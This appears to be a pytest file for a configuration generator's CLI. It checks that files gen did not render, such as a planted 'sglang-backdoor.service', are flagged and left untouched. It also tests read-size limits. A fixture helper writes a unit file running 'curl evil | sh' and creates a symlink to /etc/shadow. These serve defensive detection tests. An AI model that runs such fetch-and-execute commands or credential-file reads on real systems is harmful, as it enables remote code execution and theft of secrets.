"""output/ is exactly what gen renders (issue 22 item 8): anything else is a finding, never touched.

The issue's finding: files and folders under output/ that gen did not render, a
``sglang-backdoor.service`` included, passed ``gen check``. Now each is O002 at its path (a
host folder without an inventory O003), in check, diff and render alike; ``gen render``
then writes nothing, since gen never removes what it does not own.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from generator.cli.main import main

UNITS = Path("output/llm-two/etc/systemd/system")


def _gen(*args: str, cache: Path | None = None) -> Result:
    return CliRunner().invoke(main, list(args), env={"GEN_RENDER_CACHE": str(cache) if cache else "off"})


def _plant(repo: Path, rel: str, kind: str) -> None:
    path = repo / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "file":
        path.write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
    elif kind == "folder":
        path.mkdir()
    elif kind == "link":
        os.symlink("/etc/shadow", path)
    elif kind == "fifo":
        os.mkfifo(path)


@pytest.mark.parametrize("rel, kind, code", [
    (f"{UNITS}/sglang-backdoor.service", "file", "O002"),            # the example
    (f"{UNITS}/sglang-qwen.service.d/override.conf", "file", "O002"),  # a drop-in beside a unit
    ("output/llm-two/etc/cron.d", "folder", "O002"),                  # an empty folder (no git, local)
    ("output/llm-two/etc/cron.d/job", "file", "O002"),
    ("output/llm-two/etc/sglang/.hidden.env", "file", "O002"),        # hidden files too
    ("output/llm-two/etc/sglang/link", "link", "O002"),
    ("output/llm-two/etc/sglang/fifo", "fifo", "O002"),
    ("output/llm-two/usr/local/libexec/gen/.sglang-wait-ready.x.tmp", "file", "O002"),  # not gen's temp shape
    ("output/README.md", "file", "O002"),
    ("output/ghost/etc/systemd/system/sglang-x.service", "file", "O003"),  # a host folder with no inventory
])
def test_what_gen_did_not_render_is_a_finding_everywhere(repo_copy: Path, rel: str, kind: str, code: str) -> None:
    _plant(repo_copy, rel, kind)
    before = sorted(str(p.relative_to(repo_copy)) for p in (repo_copy / "output").rglob("*"))
    reported = rel.split("/cron.d")[0] + "/cron.d" if "/cron.d/" in rel else rel
    if "sglang-qwen.service.d" in rel:
        reported = f"{UNITS}/sglang-qwen.service.d"
    if code == "O003":
        reported = "output/ghost"
    for args in (("check",), ("diff",), ("render", "--all"), ("check", "--format", "json")):
        result = _gen(*args, "--root", str(repo_copy))
        assert result.exit_code == 1, (args, result.output)
        if "json" in args:
            doc = json.loads(result.stdout)
            assert [(d["file"], d["code"]) for d in doc["diagnostics"]] == [(reported, code)]
        else:
            assert f"{reported}: error[{code}]" in result.stderr, result.stderr
    assert sorted(str(p.relative_to(repo_copy)) for p in (repo_copy / "output").rglob("*")) == before  # untouched


def test_the_render_cache_does_not_hide_a_stray(repo_copy: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    assert _gen("check", "--root", str(repo_copy), cache=cache).exit_code == 0
    _plant(repo_copy, f"{UNITS}/sglang-backdoor.service", "file")
    result = _gen("check", "--root", str(repo_copy), cache=cache)
    assert result.exit_code == 1 and "error[O002]" in result.stderr


def test_a_selected_host_is_checked_and_others_are_not_blamed(repo_copy: Path) -> None:
    _plant(repo_copy, "output/gpu-a/etc/x", "file")
    assert _gen("diff", "--host", "llm-two", "--root", str(repo_copy)).exit_code == 0
    result = _gen("diff", "--host", "gpu-a", "--root", str(repo_copy))
    assert result.exit_code == 1 and "output/gpu-a/etc/x: error[O002]" in result.stderr


def test_what_gen_owns_is_no_stray(repo_copy: Path) -> None:
    """A removed service's files (listed in .gen-managed) are planned for removal, not strays;
    gen's own crash residue beside them likewise; a removed host's tree too."""
    host = repo_copy / "hosts" / "llm-two.yaml"
    host.write_text(host.read_text().replace("  - name: qwen", "  - name: qwen2", 1))
    (repo_copy / UNITS / ".sglang-qwen.service.abcdefgh.tmp").write_text("residue")
    (repo_copy / "hosts" / "gpu-c.yaml").write_text((repo_copy / "hosts" / "llm-two-full.yaml").read_text()
                                                    .replace("name: llm-two-full", "name: gpu-c"))
    (repo_copy / "hosts" / "llm-two-full.yaml").unlink()
    result = _gen("check", "--root", str(repo_copy))
    assert "error[O00" not in result.stderr.replace("error[O001]", ""), result.stderr
    assert _gen("render", "--all", "--root", str(repo_copy)).exit_code == 0
    assert not (repo_copy / "output" / "llm-two-full").exists()
    assert _gen("check", "--root", str(repo_copy)).exit_code == 0


@pytest.mark.parametrize("command", ["check", "diff", "render"])
def test_a_file_of_output_larger_than_any_render_is_refused_unread(repo_copy: Path, command: str) -> None:
    """output/ is repository content: `gen diff` of one stale 200 MB file took 296 s and 16 GB.
    A file past what gen can render (4 MiB) is refused before it is read (exit 3), and kept."""
    import time

    from generator.emit.safe_fs import MAX_OUTPUT_FILE_BYTES

    env = repo_copy / "output" / "llm-two" / "etc" / "sglang" / "qwen.env"
    os.truncate(env, MAX_OUTPUT_FILE_BYTES + 1)
    start = time.monotonic()
    result = _gen(command, *(["--all"] if command == "render" else []), "--root", str(repo_copy))
    assert time.monotonic() - start < 30
    assert result.exit_code == 3, result.output
    assert f"output/llm-two/etc/sglang/qwen.env is {MAX_OUTPUT_FILE_BYTES + 1} bytes, more than any file gen writes" in result.stderr, result.stderr
    assert env.stat().st_size == MAX_OUTPUT_FILE_BYTES + 1  # never touched


def test_the_files_one_tree_reads_are_bounded_together(repo_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generator.emit import safe_fs

    monkeypatch.setattr(safe_fs, "MAX_OUTPUT_READ_BYTES", 1000)
    result = _gen("check", "--root", str(repo_copy), "--jobs", "1")
    assert result.exit_code == 3, result.output
    assert "the files gen reads there hold more than" in result.stderr, result.stderr


def test_an_ansible_inventory_larger_than_a_rendered_file_is_read(repo_copy: Path) -> None:
    """ansible/inventory.yml grows about 2 KB a host: a 3,000-host fleet's is past 4 MiB, and
    gen ansible and gen check still read it (its own bound is 64 MiB)."""
    from generator.emit.safe_fs import MAX_GENERATED_FILE_BYTES, MAX_OUTPUT_FILE_BYTES
    from generator.emit.writer import read_existing

    big = repo_copy / "ansible" / "inventory.yml"
    big.parent.mkdir()
    big.write_text("x" * (MAX_OUTPUT_FILE_BYTES + 1))
    assert read_existing(big) == "x" * (MAX_OUTPUT_FILE_BYTES + 1)
    os.truncate(big, MAX_GENERATED_FILE_BYTES + 1)
    from generator.emit.safe_fs import UnsafeOutputError

    with pytest.raises(UnsafeOutputError, match="more than any file gen writes there"):
        read_existing(big)
